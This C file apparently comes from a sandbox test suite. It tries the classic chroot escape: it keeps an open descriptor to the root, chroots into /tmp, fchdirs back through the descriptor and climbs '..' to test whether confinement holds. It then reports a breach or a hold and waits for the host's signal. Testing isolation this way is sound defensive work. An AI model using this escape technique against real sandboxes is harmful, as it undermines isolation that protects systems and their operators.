/*
 * Out of the root by a second one, and by a folder that was open before. Says "ready" then, and waits for SIGUSR1, so
 * that the host can look at what lies below with all the rights that are to be had in the box.
 */
#include "attack.h"

#include <fcntl.h>
#include <signal.h>
#include <sys/stat.h>

int main(void)
{
	int root = open("/", O_PATH | O_DIRECTORY), refused, number;
	struct stat before, after;
	sigset_t answer;

	sigemptyset(&answer);
	sigaddset(&answer, SIGUSR1);
	sigprocmask(SIG_BLOCK, &answer, NULL);
	refused = chroot("/tmp") < 0 ? errno : 0;
	if (fstat(root, &before) < 0 || fchdir(root) < 0)
		breach("%s", strerror(errno));
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			held_by("chdir: %s", strerror(errno));
	if (stat(".", &after) < 0 || after.st_dev != before.st_dev || after.st_ino != before.st_ino)
		breach("there is something above the root");
	printf("ready\n");
	fflush(stdout);
	sigwait(&answer, &number);
	if (refused)
		held_by("chroot: %s", strerror(refused));
	held();
}
